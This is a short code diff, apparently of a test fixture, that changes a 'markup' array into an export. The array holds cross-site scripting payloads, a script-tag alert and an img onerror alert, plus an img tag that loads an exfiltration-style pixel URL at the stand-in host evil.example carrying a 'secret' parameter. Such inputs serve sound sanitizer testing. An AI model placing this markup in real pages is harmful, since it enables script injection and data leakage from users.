@@ -71,7 +71,7 @@ export const templates = [
 
 export const fetching = 'https://evil.example/pixel?words=secret';
 
-const markup = [
+export const markup = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
   `<img src="${fetching}">`,
